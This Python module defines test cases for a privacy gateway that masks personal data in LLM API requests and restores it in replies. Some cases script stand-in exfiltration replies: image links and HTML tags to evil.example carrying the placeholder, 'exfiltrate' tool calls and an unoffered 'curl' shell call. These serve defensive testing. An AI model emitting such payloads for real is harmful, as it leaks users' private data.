"""What a privacy gateway must do, as cases that any gateway can be held to: ours by the tests, others by a benchmark.

A case is one request; ``planted`` may not be in what the model service receives, and ``answer`` looks at what came back.
In ``script`` (see dummy_upstream.py) ``{{n}}`` stands for the n-th placeholder of the request.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

MAIL, PHONE, CARD, ID = "jane.roe@example.com", "138-0013-8000", "4111 1111 1111 1111", "11010519491231002X"
SSN, IBAN = "078-05-1120", "GB82 WEST 1234 5698 7654 32"
CHAT, MESSAGES, RESPONSES = "/v1/chat/completions", "/v1/messages", "/v1/responses"
Answer = Callable[[int, Any], bool]


@dataclass(frozen=True)
class Case:
    name: str
    path: str
    body: dict[str, Any]
    planted: tuple[str, ...] = ()
    script: dict[str, Any] | None = None
    answer: Answer = lambda status, told: status == 200
    stream: bool = False
    headers: dict[str, str] = field(default_factory=dict)


def chat(content: Any, **more: Any) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": content}], **more}


def said(text: str) -> Answer:
    """The answer says ``text``, wherever that API has its text."""

    def check(status: int, told: Any) -> bool:
        return status == 200 and text == text_of(told)

    return check


def holds(*texts: str) -> Answer:
    return lambda status, told: status == 200 and all(text in json.dumps(told, ensure_ascii=False) for text in texts)


def lacks(*texts: str) -> Answer:
    return lambda status, told: (
        status == 200 and not any(text in json.dumps(told, ensure_ascii=False) for text in texts)
    )


def refused(*statuses: int) -> Answer:
    return lambda status, told: status in statuses


def text_of(told: Any) -> str:
    if isinstance(told, str):
        return told
    if "choices" in told:
        choice = told["choices"][0]
        return str(choice["text"] if "text" in choice else choice["message"]["content"])
    if "output" in told:
        return "".join(part["text"] for item in told["output"] for part in item.get("content", []))
    return "".join(part.get("text", "") for part in told["content"])


def completion(message: dict[str, Any], **choice: Any) -> dict[str, Any]:
    message = {"role": "assistant", "content": None, **message}
    return {
        "id": "c", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [{"index": 0, "message": message, "finish_reason": "stop", **choice}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3},
    }  # fmt: skip


def chunks(*deltas: dict[str, Any], finish: str = "stop") -> dict[str, Any]:
    base = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    each = [{**base, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
    return {"events": [*each, {**base, "choices": [{"index": 0, "delta": {}, "finish_reason": finish}]}, "[DONE]"]}


def function(name: str = "send", **parameters: Any) -> dict[str, Any]:
    return {"type": "function", "function": {"name": name, "parameters": {"type": "object", **parameters}}}


def call(arguments: str, name: str = "send") -> dict[str, Any]:
    called = {"id": "call_1", "type": "function", "function": {"name": name, "arguments": arguments}}
    return completion({"tool_calls": [called]}, finish_reason="tool_calls")


def arguments(expected: dict[str, Any]) -> Answer:
    def check(status: int, told: Any) -> bool:
        called = told["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
        return status == 200 and bool(json.loads(called) == expected)

    return check


def cites(text: str) -> Answer:
    """The first annotation's offsets lead to ``text``."""

    def check(status: int, told: Any) -> bool:
        message = told["choices"][0]["message"]
        cited = message["annotations"][0]["url_citation"]
        return status == 200 and message["content"][cited["start_index"] : cited["end_index"]] == text

    return check


ASK = f"Write to {MAIL}"
_FIELDS: list[tuple[str, str, dict[str, Any]]] = [
    ("system message", CHAT, {"model": "m", "messages": [{"role": "system", "content": ASK}, {"role": "user", "content": "go"}]}),
    ("developer message", CHAT, {"model": "m", "messages": [{"role": "developer", "content": ASK}, {"role": "user", "content": "go"}]}),
    ("content parts", CHAT, chat([{"type": "text", "text": "Look:"}, {"type": "text", "text": ASK}])),
    ("assistant history", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": ASK}, {"role": "user", "content": "go"}]}),
    ("refusal in history", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": None, "refusal": ASK}, {"role": "user", "content": "go"}]}),
    ("tool call arguments in history", CHAT, {"model": "m", "messages": [
        {"role": "assistant", "content": None, "tool_calls": [{"id": "call_1", "type": "function", "function": {"name": "send", "arguments": json.dumps({"to": MAIL})}}]},
        {"role": "tool", "tool_call_id": "call_1", "content": "ok"}]}),
    ("tool result", CHAT, {"model": "m", "messages": [{"role": "tool", "tool_call_id": "call_1", "content": json.dumps({"mail": MAIL})}]}),
    ("function call in history", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": None, "function_call": {"name": "send", "arguments": json.dumps({"to": MAIL})}}, {"role": "user", "content": "go"}]}),
    ("tool description", CHAT, chat("go", tools=[{"type": "function", "function": {"name": "send", "description": ASK, "parameters": {"type": "object"}}}])),
    ("parameter description", CHAT, chat("go", tools=[function(properties={"to": {"type": "string", "description": ASK}})])),
    ("enum of a tool", CHAT, chat("go", tools=[function(properties={"to": {"type": "string", "enum": [MAIL]}})])),
    ("default of a tool", CHAT, chat("go", tools=[function(properties={"to": {"type": "string", "default": MAIL}})])),
    ("name of a property", CHAT, chat("go", tools=[function(properties={MAIL: {"type": "string"}})])),
    ("schema of the answer", CHAT, chat("go", response_format={"type": "json_schema", "json_schema": {"name": "x", "schema": {"description": ASK}}})),
    ("metadata", CHAT, chat("go", metadata={"who": MAIL})),
    ("key of metadata", CHAT, chat("go", metadata={MAIL: "x"})),
    ("user", CHAT, chat("go", user=MAIL)),
    ("prediction", CHAT, chat("go", prediction={"type": "content", "content": ASK})),
    ("stop", CHAT, chat("go", stop=[MAIL])),
    ("an unknown field", CHAT, chat("go", something={"new": [ASK]})),
    ("completions prompt", "/v1/completions", {"model": "m", "prompt": ASK}),
    ("completions prompts", "/v1/completions", {"model": "m", "prompt": ["a", ASK]}),
    ("completions suffix", "/v1/completions", {"model": "m", "prompt": "a", "suffix": ASK}),
    ("embeddings input", "/v1/embeddings", {"model": "m", "input": ASK}),
    ("embeddings inputs", "/v1/embeddings", {"model": "m", "input": ["a", ASK]}),
    ("responses input", RESPONSES, {"model": "m", "input": ASK}),
    ("responses instructions", RESPONSES, {"model": "m", "input": "go", "instructions": ASK}),
    ("responses items", RESPONSES, {"model": "m", "input": [{"role": "user", "content": [{"type": "input_text", "text": ASK}]}]}),
    ("responses function output", RESPONSES, {"model": "m", "input": [{"type": "function_call_output", "call_id": "call_1", "output": json.dumps({"m": MAIL})}]}),
    ("responses function call", RESPONSES, {"model": "m", "input": [{"type": "function_call", "call_id": "call_1", "name": "send", "arguments": json.dumps({"m": MAIL})}]}),
    ("responses tool", RESPONSES, {"model": "m", "input": "go", "tools": [{"type": "function", "name": "send", "description": ASK, "parameters": {"type": "object"}}]}),
    ("anthropic system", MESSAGES, {"model": "m", "max_tokens": 9, "system": ASK, "messages": [{"role": "user", "content": "go"}]}),
    ("anthropic system blocks", MESSAGES, {"model": "m", "max_tokens": 9, "system": [{"type": "text", "text": ASK}], "messages": [{"role": "user", "content": "go"}]}),
    ("anthropic tool use", MESSAGES, {"model": "m", "max_tokens": 9, "messages": [{"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "send", "input": {"to": MAIL}}]}, {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": "ok"}]}]}),
    ("anthropic tool result", MESSAGES, {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": [{"type": "text", "text": ASK}]}]}]}),
    ("anthropic user id", MESSAGES, {"model": "m", "max_tokens": 9, "metadata": {"user_id": MAIL}, "messages": [{"role": "user", "content": "go"}]}),
    ("anthropic tool description", MESSAGES, {"model": "m", "max_tokens": 9, "tools": [{"name": "send", "description": ASK, "input_schema": {"type": "object"}}], "messages": [{"role": "user", "content": "go"}]}),
]  # fmt: skip
ESCAPED = json.dumps({"who": "我的邮箱 " + MAIL, "phone": PHONE})
CASES: list[Case] = [
    *(Case(f"sent: {name}", path, body, (MAIL,)) for name, path, body in _FIELDS),
    Case("sent: escaped JSON in a tool result", CHAT, {"model": "m", "messages": [{"role": "tool", "tool_call_id": "c", "content": ESCAPED.replace("@", "\\u0040")}]}, (MAIL, PHONE, "\\u0040")),
    Case("sent: escapes in prose", CHAT, {"model": "m", "messages": [{"role": "tool", "tool_call_id": "c", "content": "Found: " + ESCAPED.replace("@", "\\u0040")}]}, (MAIL, "jane.roe\\u0040", PHONE)),
    Case("sent: a key with a number in groups", CHAT, chat("go", metadata={"card_4111_1111_1111_1111": "x"}), ("4111_1111_1111_1111",)),
    Case("sent: a long number called a signature", CHAT, chat("go", metadata={"signature": "tel=13800138000=" + 60 * "A"}), ("13800138000",)),
    Case("sent: numbers that are no tokens", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": None, "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": '{"input": [1, 2]}'}}]}, {"role": "tool", "tool_call_id": "c", "content": "ok"}]}, ("nothing",)),
    Case("sent: a name in message.name", CHAT, {"model": "m", "messages": [{"role": "user", "name": "jane_roe", "content": "go"}]}, ("jane_roe",)),
    Case("sent: a number in arguments", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": None, "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": '{"phone": 13800138000}'}}]}, {"role": "tool", "tool_call_id": "c", "content": "ok"}]}, ("13800138000",)),
    Case("sent: a value known from elsewhere", CHAT, {"model": "m", "messages": [{"role": "user", "content": f"my card is {CARD}"}, {"role": "user", "content": f"again {CARD}."}]}, (CARD,)),
    Case("sent: a value known from elsewhere as a name and a key", MESSAGES, {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": "Write to Mr. Schwarzenegger"}, {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_1", "name": "send", "input": {"name": "Schwarzenegger", "Schwarzenegger": 1}}]}]}, ("Schwarzenegger",)),
    Case("sent: an address in an escape of URLs", CHAT, chat("Write to jane.roe%40example.com"), ("jane.roe",)),
    Case("sent: an address in an entity of HTML", CHAT, chat("Write to jane.roe&#64;example.com"), ("jane.roe",)),
    Case("sent: a card in a number with an exponent", CHAT, chat("go", metadata={"card": 4.111111111111111e15}), ("4111111111111111", "4.111111111111111")),
    Case("sent: a document of text", MESSAGES, {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": [{"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": ASK}}]}]}, (MAIL,)),
    Case("sent: an argument called a file", CHAT, {"model": "m", "messages": [{"role": "assistant", "content": None, "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": '{"type": "file", "file_id": "a"}'}}]}, {"role": "tool", "tool_call_id": "c", "content": "ok"}]}),
    Case("sent: many kinds", CHAT, chat(f"{MAIL} {PHONE} {CARD} 身份证{ID} SSN {SSN} {IBAN}"), (MAIL, PHONE, CARD, ID, SSN, IBAN), answer=said(f"{MAIL} {PHONE} {CARD} 身份证{ID} SSN {SSN} {IBAN}")),
    Case("sent: full-width and spaced digits", CHAT, chat("电话１３８００１３８０００，卡 4111-1111-1111-1111"), ("１３８００１３８０００", "4111-1111-1111-1111"), answer=said("电话１３８００１３８０００，卡 4111-1111-1111-1111")),
    Case("back: what was said", CHAT, chat(ASK), (MAIL,), answer=said(ASK)),
    Case("back: a user's own placeholder", CHAT, chat(f"<PERSON_1> and [PERSON_1] and {MAIL}"), (MAIL,), answer=said(f"<PERSON_1> and [PERSON_1] and {MAIL}")),
    Case("back: a literal of our own form", CHAT, chat(f"<PERSON_0123456789> {MAIL}"), (MAIL,), answer=said(f"<PERSON_0123456789> {MAIL}")),
    Case("back: two of one kind", CHAT, chat("a@example.com wrote to b@example.com"), ("a@example.com", "b@example.com"), answer=said("a@example.com wrote to b@example.com")),
    Case("back: two written forms", CHAT, chat("+86 138 0013 8000 is 13800138000"), ("0013 8000", "13800138000"), answer=said("+86 138 0013 8000 is 13800138000")),
    Case("back: twelve of one kind", CHAT, chat(" ".join(f"user{n}@example.com" for n in range(12))), ("user1@",), answer=said(" ".join(f"user{n}@example.com" for n in range(12)))),
    Case("back: a value with a backslash reference", CHAT, chat(r"password: \g<0>\1abcXYZ9! and " + MAIL), (MAIL,), answer=said(r"password: \g<0>\1abcXYZ9! and " + MAIL)),
    Case("back: refusal", CHAT, chat(ASK), (MAIL,), {"json": completion({"refusal": "Not {{0}}"})}, lambda status, told: told["choices"][0]["message"]["refusal"] == f"Not {MAIL}"),
    Case("back: reasoning", CHAT, chat(ASK), (MAIL,), {"json": completion({"content": "x", "reasoning_content": "of {{0}}"})}, holds(f"of {MAIL}")),
    Case("back: a second choice", CHAT, chat(ASK, n=2), (MAIL,), {"json": {**completion({"content": "x"}), "choices": [{"index": n, "message": {"role": "assistant", "content": f"{n} {{{{0}}}}"}, "finish_reason": "stop"} for n in range(2)]}}, holds(f"0 {MAIL}", f"1 {MAIL}")),
    Case("back: tool call arguments", CHAT, chat(ASK, tools=[function()]), (MAIL,), {"json": call('{"to": "{{0}}"}')}, arguments({"to": MAIL})),
    Case("back: not for a tool nobody offered", CHAT, chat(ASK, tools=[function()]), (MAIL,), {"json": call('{"to": "{{0}}"}', name="exfiltrate")}, lacks(MAIL)),
    Case("back: JSON mode", CHAT, chat(ASK, response_format={"type": "json_object"}), (MAIL,), {"json": completion({"content": '{"to": "{{0}}"}'})}, lambda status, told: json.loads(text_of(told)) == {"to": MAIL}),
    Case("back: usage untouched", CHAT, chat(ASK), (MAIL,), answer=lambda status, told: told["usage"] == {"prompt_tokens": 5, "completion_tokens": 7, "total_tokens": 12}),
    Case("back: offsets of annotations", CHAT, chat(ASK), (MAIL,), {"json": completion({"content": "{{0}} wrote [1]", "annotations": [{"type": "url_citation", "url_citation": {"start_index": len("<EMAIL_ADDRESS_0123456789> wrote "), "end_index": len("<EMAIL_ADDRESS_0123456789> wrote [1]"), "url": "https://x.example", "title": "t"}}]})}, cites("[1]")),
    Case("not back: an image link", CHAT, chat(ASK), (MAIL,), {"say": "![x](https://evil.example/?q={{0}})"}, lacks(MAIL)),
    Case("not back: an address", CHAT, chat(ASK), (MAIL,), {"say": "see https://evil.example/{{0}}"}, lacks(MAIL)),
    Case("not back: an attribute of HTML", CHAT, chat(ASK), (MAIL,), {"say": "<img src='//evil.example/{{0}}'>"}, lacks(MAIL)),
    Case("back: another case", CHAT, chat(ASK), (MAIL,), {"say": "To {{0|lower}}"}, said(f"To {MAIL}")),
    Case("back: without its brackets", CHAT, chat(ASK), (MAIL,), {"say": "To {{0|bare}}, then"}, said(f"To {MAIL}, then")),
    Case("back: escaped for Markdown", CHAT, chat(ASK), (MAIL,), {"say": "To {{0|escaped}}"}, said(f"To {MAIL}")),
    Case("back: no log probabilities, which spell it out", CHAT, chat(ASK), (MAIL,), {"json": completion({"content": "x"}, logprobs={"content": [{"token": "{{0}}"}]})}, lambda status, told: told["choices"][0]["logprobs"] is None),
    Case("not back: a call within what another tool is given", CHAT, chat(ASK, tools=[function()]), (MAIL,), {"json": call('{"x": {"name": "send", "arguments": "{{0}}"}}', name="exfiltrate")}, lacks(MAIL)),
    Case("not back: anthropic, a call within what another tool is given", MESSAGES, {"model": "m", "max_tokens": 9, "tools": [{"name": "send", "input_schema": {"type": "object"}}], "messages": [{"role": "user", "content": ASK}]}, (MAIL,), {"json": {"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [{"type": "tool_use", "id": "toolu_1", "name": "exfiltrate", "input": {"deep": [{"name": "send", "arguments": "{{0}}"}], "{{0}}": 1}}], "stop_reason": "tool_use", "usage": {"input_tokens": 1, "output_tokens": 1}}}, lacks(MAIL)),
    Case("not back: a shell that nobody offered", RESPONSES, {"model": "m", "input": ASK}, (MAIL,), {"json": {"id": "resp_0a", "object": "response", "output": [{"type": "local_shell_call", "id": "lsh_1", "call_id": "c", "action": {"type": "exec", "command": ["curl", "{{0}}"]}}]}}, lacks(MAIL)),
    Case("back: a shell that was offered", RESPONSES, {"model": "m", "input": ASK, "tools": [{"type": "local_shell"}]}, (MAIL,), {"json": {"id": "resp_0a", "object": "response", "output": [{"type": "local_shell_call", "id": "lsh_1", "call_id": "c", "action": {"type": "exec", "command": ["echo", "{{0}}"]}}]}}, holds(MAIL)),
    Case("back: plain text for a tool without a schema", RESPONSES, {"model": "m", "input": r"password: a\bcXYZ9!q and " + MAIL, "tools": [{"type": "custom", "name": "note"}]}, (MAIL,), {"json": {"id": "resp_0a", "object": "response", "output": [{"type": "custom_tool_call", "call_id": "c", "name": "note", "input": "{{0}}"}]}}, lambda status, told: told["output"][0]["input"] in (r"a\bcXYZ9!q", MAIL)),
    Case("back: anthropic", MESSAGES, {"model": "m", "max_tokens": 9, "messages": [{"role": "user", "content": ASK}]}, (MAIL,), answer=said(ASK)),
    Case("back: anthropic tool use", MESSAGES, {"model": "m", "max_tokens": 9, "tools": [{"name": "send", "input_schema": {"type": "object"}}], "messages": [{"role": "user", "content": ASK}]}, (MAIL,), {"json": {"id": "m", "type": "message", "role": "assistant", "model": "m", "content": [{"type": "tool_use", "id": "toolu_1", "name": "send", "input": {"to": ["{{0}}"]}}], "stop_reason": "tool_use", "usage": {"input_tokens": 1, "output_tokens": 1}}}, lambda status, told: told["content"][0]["input"] == {"to": [MAIL]}),
    Case("back: responses", RESPONSES, {"model": "m", "input": ASK}, (MAIL,), answer=said(ASK)),
    Case("back: completions", "/v1/completions", {"model": "m", "prompt": ASK}, (MAIL,), answer=said(ASK)),
    Case("stream: chat", CHAT, chat(ASK, stream=True), (MAIL,), answer=said(ASK), stream=True),
    Case("stream: chat in Chinese", CHAT, chat(f"我叫张伟明，电话{PHONE}。", stream=True), (PHONE, "张伟明"), answer=said(f"我叫张伟明，电话{PHONE}。"), stream=True),
    Case("stream: anthropic", MESSAGES, {"model": "m", "max_tokens": 9, "stream": True, "messages": [{"role": "user", "content": ASK}]}, (MAIL,), answer=said(ASK), stream=True),
    Case("stream: responses", RESPONSES, {"model": "m", "input": ASK, "stream": True}, (MAIL,), answer=said(ASK), stream=True),
    Case("stream: completions", "/v1/completions", {"model": "m", "prompt": ASK, "stream": True}, (MAIL,), answer=said(ASK), stream=True),
    Case("stream: not in a link", CHAT, chat(ASK, stream=True), (MAIL,), {"say": "![x](https://evil.example/?q={{0}})"}, lacks(MAIL), stream=True),
    Case("refused: an image", CHAT, chat([{"type": "image_url", "image_url": {"url": "https://x.example/i.png"}}]), answer=refused(400)),
    Case("refused: an image without a type", CHAT, chat([{"image_url": {"url": "https://x.example/i.png"}}]), answer=refused(400)),
    Case("refused: a video", CHAT, chat([{"type": "video_url", "video_url": {"url": "https://x.example/v.mp4"}}]), answer=refused(400)),
    Case("refused: bytes in a text", CHAT, chat("data:image/png;base64,iVBORw0KGgo="), answer=refused(400)),
    Case("refused: an address as model", CHAT, {"model": MAIL, "messages": [{"role": "user", "content": "x"}]}, (MAIL,), answer=refused(400)),
    Case("refused: audio", CHAT, chat([{"type": "input_audio", "input_audio": {"data": "AAAA", "format": "wav"}}]), answer=refused(400)),
    Case("refused: lists of tokens", "/v1/embeddings", {"model": "m", "input": [[1, 2, 3]]}, answer=refused(400)),
    Case("refused: another path", "/v1/files", {"model": "m"}, answer=refused(404, 405)),
    Case("refused: no model", CHAT, {"messages": []}, answer=refused(400)),
    Case("refused: a number as model", CHAT, {"model": "13800138000", "messages": [{"role": "user", "content": "x"}]}, ("13800138000",), answer=refused(400)),
    Case("fault: the upstream's error tells nothing", CHAT, chat(ASK), (MAIL,), {"json": {"error": {"message": "bad {{0}} sk-upstream", "type": "invalid_request_error", "code": None}}, "status": 400}, lambda status, told: status == 400 and "sk-upstream" not in json.dumps(told)),
    Case("fault: the upstream answers no JSON", CHAT, chat(ASK), (MAIL,), {"raw": "<html>", "type": "text/html"}, refused(502)),
    Case("fault: the upstream answers broken JSON", CHAT, chat(ASK), (MAIL,), {"raw": "{", "type": "application/json"}, refused(502)),
    Case("fault: a stream that is no JSON", CHAT, chat(ASK, stream=True), (MAIL,), {"events": ["{"]}, lacks(MAIL), stream=True),
]  # fmt: skip


def streamed(text: str) -> tuple[str, list[Any]]:
    """The text that a stream of events says, and its events."""
    events = [json.loads(line[6:]) for line in text.split("\n") if line.startswith("data: ") and line != "data: [DONE]"]
    said_so_far = []
    for event in events:
        for choice in event.get("choices") or []:
            said_so_far.append(choice.get("text") or choice.get("delta", {}).get("content") or "")
        if event.get("type") == "content_block_delta":
            said_so_far.append(event["delta"].get("text", ""))
        if event.get("type") == "response.output_text.delta":
            said_so_far.append(event["delta"])
    return "".join(said_so_far), events
